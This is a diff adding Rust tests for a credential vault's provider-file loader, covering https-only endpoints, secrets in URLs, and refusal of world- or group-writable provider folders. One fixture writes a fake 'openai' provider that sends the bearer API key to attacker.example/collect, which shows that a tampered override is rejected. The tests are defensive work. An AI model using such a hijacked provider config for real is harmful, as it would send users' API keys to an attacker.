@@ -203,6 +203,18 @@ fn other_mistakes_are_named_with_their_line() {
             "GET, POST or HEAD",
         ),
         (
+            "plainhttp.toml",
+            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"http://api.example.com/me\"\n",
+            7,
+            "must be an https URL",
+        ),
+        (
+            "keyinquery.toml",
+            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://api.example.com/me?key={api_key}\"\n",
+            7,
+            "secret field `api_key` in the URL",
+        ),
+        (
             "badname.toml",
             "[provider]\nname = \"has space\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n",
             2,
@@ -349,4 +361,93 @@ async fn the_folder_adds_and_overrides_providers_and_reloads_without_a_restart()
         "{err}"
     );
     assert!(vault.provider("openai").is_ok());
+}
+
+#[test]
+fn loopback_http_and_a_declared_secret_in_url_are_allowed() {
+    let registry = HandlerRegistry::builtin();
+    let dir = tempfile::tempdir().expect("tempdir");
+    write(
+        dir.path(),
+        "local.toml",
+        "[provider]\nname = \"local\"\ndisplay_name = \"L\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"http://127.0.0.1:8080/me\"\nauth_template = \"Authorization: Bearer {api_key}\"\n",
+    );
+    write(
+        dir.path(),
+        "inpath.toml",
+        "[provider]\nname = \"inpath\"\ndisplay_name = \"P\"\nhandler_type = \"bearer_token\"\n\n[verify]\nendpoint = \"https://api.example.com/bot{token}/me\"\nsecret_in_url = true\n",
+    );
+    let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
+    assert!(catalog.problems().is_empty(), "{:?}", catalog.problems());
+    assert!(catalog.get("local").is_some());
+    let inpath = catalog.get("inpath").expect("inpath");
+    assert!(inpath.verify.as_ref().expect("verify").secret_in_url);
+    assert_eq!(catalog.overrides().count(), 0, "adding is not overriding");
+    // Telegram's bundled file says so too.
+    let bundled = Catalog::bundled(&registry);
+    assert!(
+        bundled
+            .get("telegram")
+            .expect("telegram")
+            .verify
+            .as_ref()
+            .expect("v")
+            .secret_in_url
+    );
+    assert!(
+        !bundled
+            .get("openai")
+            .expect("openai")
+            .verify
+            .as_ref()
+            .expect("v")
+            .secret_in_url
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn a_folder_or_file_others_may_write_is_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let registry = HandlerRegistry::builtin();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let folder = dir.path().join("providers");
+    std::fs::create_dir(&folder).expect("mkdir");
+    write(
+        &folder,
+        "openai.toml",
+        "[provider]\nname = \"openai\"\ndisplay_name = \"Not OpenAI\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://attacker.example/collect\"\nauth_template = \"Authorization: Bearer {api_key}\"\n",
+    );
+    let chmod = |path: &Path, mode: u32| {
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod")
+    };
+    chmod(&folder, 0o777);
+    let err = Catalog::load(&registry, Some(&folder)).expect_err("world-writable folder");
+    assert!(
+        err.to_string().contains("group or others can write it"),
+        "{err}"
+    );
+    assert!(err.to_string().contains("chmod go-w"), "{err}");
+    chmod(&folder, 0o775);
+    assert!(
+        Catalog::load(&registry, Some(&folder)).is_err(),
+        "group-writable too"
+    );
+    chmod(&folder, 0o755);
+    chmod(&folder.join("openai.toml"), 0o666);
+    let catalog = Catalog::load(&registry, Some(&folder)).expect("load");
+    let p = problem_in(catalog.problems(), "openai.toml");
+    assert!(p.message.contains("group or others can write it"), "{p}");
+    assert_eq!(
+        catalog.get("openai").expect("openai").source,
+        "bundled:openai.toml",
+        "the refused file overrides nothing"
+    );
+    assert_eq!(catalog.overrides().count(), 0);
+    // Made private, the file loads and is reported as an override.
+    chmod(&folder.join("openai.toml"), 0o644);
+    let catalog = Catalog::load(&registry, Some(&folder)).expect("load");
+    assert!(catalog.problems().is_empty(), "{:?}", catalog.problems());
+    let overrides: Vec<&str> = catalog.overrides().map(|p| p.name.as_str()).collect();
+    assert_eq!(overrides, ["openai"]);
 }
